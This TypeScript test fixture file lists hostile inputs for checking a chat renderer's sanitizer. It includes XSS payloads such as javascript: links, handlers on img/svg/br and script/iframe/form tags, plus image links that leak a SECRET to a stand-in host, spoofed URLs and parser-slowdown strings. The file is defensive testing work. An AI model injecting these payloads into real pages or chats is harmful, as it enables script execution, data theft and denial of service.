/**
 * Texts that have broken chats, with what each must not become. One table for everything that draws text: the tree here,
 * and the elements of the widget and the console.
 */
export interface HostileText {
  readonly name: string;
  readonly text: string;
}

export const HOSTILE_TEXTS: readonly HostileText[] = [
  { name: 'M1: a script link', text: '[x](javascript:alert(1))' },
  { name: 'M1: a script link with a line break', text: '[x](java\nscript:alert(1))' },
  { name: 'M1: a script link in entities', text: '[x](&#106;avascript:alert(1))' },
  { name: 'M1: a script link behind a control character', text: '[x](\u0001javascript:alert(1))' },
  { name: 'M1: vbscript', text: '[x](vbscript:msgbox(1))' },
  { name: 'M1: a document in an address', text: '[x](data:text/html,<script>alert(1)</script>)' },
  { name: 'M1: a blob', text: '[x](blob:https://e.example/1)' },
  { name: 'M2: an image', text: '![a](https://e.example/x?d=SECRET)' },
  { name: 'M2: an image by reference', text: '![a][r]\n\n[r]: https://e.example/x?d=SECRET' },
  { name: 'M2: a raw image', text: '<img src=x onerror=alert(1)>' },
  { name: 'M3: a script', text: '<script>alert(1)</script>' },
  { name: 'M3: an SVG', text: '<svg onload=alert(1)>' },
  { name: 'M3: a frame', text: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'M3: a style sheet', text: '<style>@import "https://e.example"</style>' },
  { name: 'M3: a base', text: '<base href="https://e.example/">' },
  { name: 'M3: a form', text: '<form action="https://e.example"><input></form>' },
  { name: 'M6: an event handler in a title', text: '[x](https://e.example "a\\" onmouseover=\\"alert(1)")' },
  { name: 'M5: a relative link', text: '[x](/admin)' },
  { name: 'M5: a link without scheme', text: '[x](//e.example)' },
  { name: 'M11: a bare address with a user', text: 'https://bank.example@e.example/x' },
  { name: 'M11: a bare address with a user behind a port', text: 'https://bank.example:443@e.example' },
  { name: 'M11: a bare script', text: 'javascript://e.example/%0aalert(1)' },
  { name: 'M11: a bare address without encryption', text: 'http://e.example/x and http://www.e.example' },
  { name: 'M11: a bare address of this network', text: 'https://192.168.0.1/x https://0x7f000001/ https://[::1]/' },
  { name: 'M11: an e-mail address with a header', text: 'mailto:a@b.example?bcc=c@d.example&body=x' },
  { name: 'M11: a handler behind an address', text: 'https://a.example/"onmouseover="alert(1)' },
  { name: 'M11: a script in an address', text: 'https://a.example/<script>alert(1)</script>' },
  { name: 'M11: an image at an address', text: 'https://a.example/![x](https://e.example/x?d=SECRET)' },
  { name: 'M11: a line break with a handler', text: 'a<br onclick=alert(1)>b<br/onclick=alert(1)>' },
  { name: 'M11: hidden characters in entities', text: 'gpj.&#x202e;exe&#8203;&zwj;' },
];

const SLOW_TEXTS: readonly string[] = [
  '- '.repeat(4_000),
  '>'.repeat(8_000),
  '['.repeat(8_000),
  '__*_'.repeat(2_000),
  `|${'a|'.repeat(4_000)}`,
  '['.repeat(32_000),
  '[a]('.repeat(8_000),
  `[a](${'x'.repeat(32_000)}`,
  `[a](x ${'y'.repeat(32_000)}`,
  '**a'.repeat(10_000),
  '_a*'.repeat(10_000),
  '`'.repeat(32_000),
  `${' '.repeat(32_000)}-`,
  '# '.repeat(16_000),
  'https://'.repeat(4_000),
  'https://a.example/('.repeat(1_700),
  `https://a.example/${'(['.repeat(16_000)}`,
  `https://${'a.'.repeat(16_000)}`,
  'www.a.b,'.repeat(4_000),
  'a@'.repeat(16_000),
  `${'a.'.repeat(16_000)}@`,
  `@${'a.'.repeat(16_000)}`,
  'https://a.example/あ'.repeat(1_600),
  `https://a.example/${'\\_'.repeat(16_000)}`,
  `https://a.example/${'&amp;'.repeat(6_000)}`,
  '<br'.repeat(10_000),
  `<br${' '.repeat(32_000)}`,
  '**「'.repeat(10_000),
  'あ**'.repeat(10_000),
  '&#8203;'.repeat(4_000),
];

/** Texts made to keep a parser busy, each after how it begins. */
export const NAMED_SLOW_TEXTS = SLOW_TEXTS.map((text) => [text.slice(0, 8), text] as const);

/** Pieces to build further texts of. */
export const HOSTILE_PIECES: readonly string[] = [
  ...['<', '>', '[', ']', '(', ')', '!', '`', '*', '_', '#', '|', '\n', '- ', '"', "'", '\\', ' ', 'text'],
  ...['javascript:', 'data:', 'https://a.example', '<img src=x onerror=1>', '&#106;'],
  ...['www.a.example', 'ann@b.example', '/', '<br>', '「', '。', 'あ', 'ש', '&amp;', '&#x202e;'],
];

/** Every address that an app may make clickable. */
export const ALLOWED_ADDRESS = /^(?:https:\/\/|mailto:|tel:|http:\/\/(?:localhost|127\.0\.0\.1)(?=[:/]))/;
